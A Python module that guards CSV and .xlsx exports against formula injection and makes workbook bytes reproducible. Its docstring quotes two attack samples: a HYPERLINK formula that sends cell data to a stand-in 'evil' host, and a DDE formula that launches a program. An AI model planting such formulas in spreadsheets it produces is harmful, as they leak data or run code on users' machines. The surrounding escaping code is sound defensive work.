"""Spreadsheet files we write (CSV and .xlsx): untrusted text never runs as a formula, bytes are reproducible.

Formula injection (OWASP "CSV injection"): Excel and LibreOffice evaluate a cell whose text starts
with = + - @ (Excel's East Asian input also takes the full-width ＝ ＋ － ＠), and a leading tab or
line break can hide such a start. `=HYPERLINK("http://evil/?"&A1)` leaks data; `+cmd|' /C calc'!A0`
starts a program through DDE. Answers, comments, repository names and evidence messages are
untrusted, so every text cell we write is guarded:

- CSV has no cell types, so the text itself is escaped: `escape_formula` puts an apostrophe in front
  of text that could start a formula, and in front of text that already starts with an apostrophe;
  `unescape_formula` takes exactly one leading apostrophe away. They are exact inverses
  (`unescape_formula(escape_formula(t)) == t` for every string), so a questionnaire exported as CSV
  and imported again gives back the original text, even text that really starts with `'` or `=`.
  Number literals (`-5`, `+1.5e3`) are left as they are: a number is not a formula, and numeric
  columns must stay numeric when the file is opened.
- .xlsx cells carry a type: `put_cell` writes text with the string type (`t="inlineStr"`), which no
  spreadsheet evaluates, and, for text that looks like a formula, the quote-prefix style, so that a
  person who edits the cell in Excel and presses Enter still has text, not a formula. The text
  itself is not altered (no apostrophe), so xlsx round trips need no unescaping.

Reproducibility: openpyxl stamps the save time into docProps/core.xml and into every zip entry;
`reproducible_xlsx` rewrites both from the injected moment, so a workbook's bytes depend only on
its content and that moment.
"""

from __future__ import annotations

import io
import re
import zipfile
from datetime import UTC, datetime
from typing import Any

QUOTE = "'"
FORMULA_STARTS = frozenset("=+-@＝＋－＠")
_NUMBER = re.compile(r"[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")  # ASCII digits only


def looks_like_formula(text: str) -> bool:
    """True when a spreadsheet could evaluate `text` typed into (or read from a CSV into) a cell."""
    if not text or _NUMBER.fullmatch(text):
        return False
    if text[0] in "\t\r\n":  # OWASP lists a leading tab or CR as dangerous on its own
        return True
    # Spreadsheets differ in which blanks they skip before a formula start: assume any white space.
    return text.lstrip()[:1] in FORMULA_STARTS


def escape_formula(text: str) -> str:
    """The CSV form of one cell's text: an apostrophe in front when it could start a formula (or starts with one)."""
    return QUOTE + text if text.startswith(QUOTE) or looks_like_formula(text) else text


def unescape_formula(text: str) -> str:
    """Undo `escape_formula`: drop one leading apostrophe."""
    return text[1:] if text.startswith(QUOTE) else text


def csv_cell(value: Any) -> Any:
    """A value for a CSV writer: text escaped, numbers and booleans and None as they are."""
    return escape_formula(value) if isinstance(value, str) else value


def put_cell(ws: Any, row: int, col: int, value: Any) -> Any:
    """Write `value` into an openpyxl sheet as data, never as a formula; returns the cell.

    Text: characters the xlsx format cannot hold (C0 controls but tab and line breaks) are removed,
    the cell type is string, and formula-like text gets the quote-prefix style. Numbers, booleans,
    dates and None keep their own types.
    """
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    cell = ws.cell(row=row, column=col)
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"  # openpyxl takes text starting with "=" as a formula otherwise
        if looks_like_formula(value):
            cell.quotePrefix = True
    return cell


ZIP_EPOCH = datetime(1980, 1, 1, tzinfo=UTC)  # the earliest time a zip entry can hold
_MODIFIED = re.compile(rb"(<dcterms:modified[^>]*>)[^<]*(</dcterms:modified>)")


def _utc(moment: datetime) -> datetime:
    return (moment if moment.tzinfo is not None else moment.replace(tzinfo=UTC)).astimezone(UTC)


def zip_time(moment: datetime) -> tuple[int, int, int, int, int, int]:
    """A zip entry's date_time (UTC) for `moment` (naive means UTC); before 1980 it is 1980-01-01."""
    utc = max(_utc(moment), ZIP_EPOCH)
    return (utc.year, utc.month, utc.day, utc.hour, utc.minute, utc.second)


def reproducible_xlsx(data: bytes, moment: datetime) -> bytes:
    """The same workbook with every save-time stamp replaced by `moment`.

    Entries keep their order and content; each gets `moment` as its zip time and fixed permissions,
    and docProps/core.xml's dcterms:modified becomes `moment` (created is set by the caller through
    openpyxl's properties).
    """
    stamp = zip_time(moment)
    modified = _utc(moment).strftime("%Y-%m-%dT%H:%M:%SZ").encode("ascii")
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            content = src.read(info.filename)
            if info.filename == "docProps/core.xml":
                content = _MODIFIED.sub(lambda m: m.group(1) + modified + m.group(2), content)
            entry = zipfile.ZipInfo(info.filename, stamp)
            entry.compress_type = zipfile.ZIP_DEFLATED
            entry.create_system = 3  # Unix, whatever platform writes it
            entry.external_attr = 0o600 << 16
            dst.writestr(entry, content)
    return out.getvalue()
